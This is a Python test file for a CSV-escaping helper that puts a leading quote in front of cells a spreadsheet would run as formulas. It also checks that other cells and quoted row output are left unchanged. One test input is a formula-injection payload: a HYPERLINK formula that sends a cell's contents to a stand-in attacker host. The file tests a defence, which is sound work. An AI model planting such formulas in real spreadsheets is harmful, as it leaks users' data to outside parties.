"""bot.csvsafe: cells a spreadsheet would run as formulas are neutralised, everything else is left as it is."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csvsafe import cell, write_rows


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?p="&F3,"…")', "-ROW()", "+81-90-1234-5678", "@SUM(A1)", "\t=1", "\r=1", "\n=1"],
)
def test_a_cell_that_starts_a_formula_gets_a_leading_quote(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["山田花子", "泉野町3-5-1", "090-1234-5678", "1000", "", " =1", "a=b"])
def test_other_cells_are_kept(value):
    assert cell(value) == value


def test_rows_are_written_with_every_field_quoted():
    out = io.StringIO()
    write_rows(out, [["番号", 1000, None], ["=1+1", "a,b", 'say "hi"']])
    assert out.getvalue() == '"番号","1000",""\r\n"\'=1+1","a,b","say ""hi"""\r\n'
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["番号", "1000", ""], ["'=1+1", "a,b", 'say "hi"']]
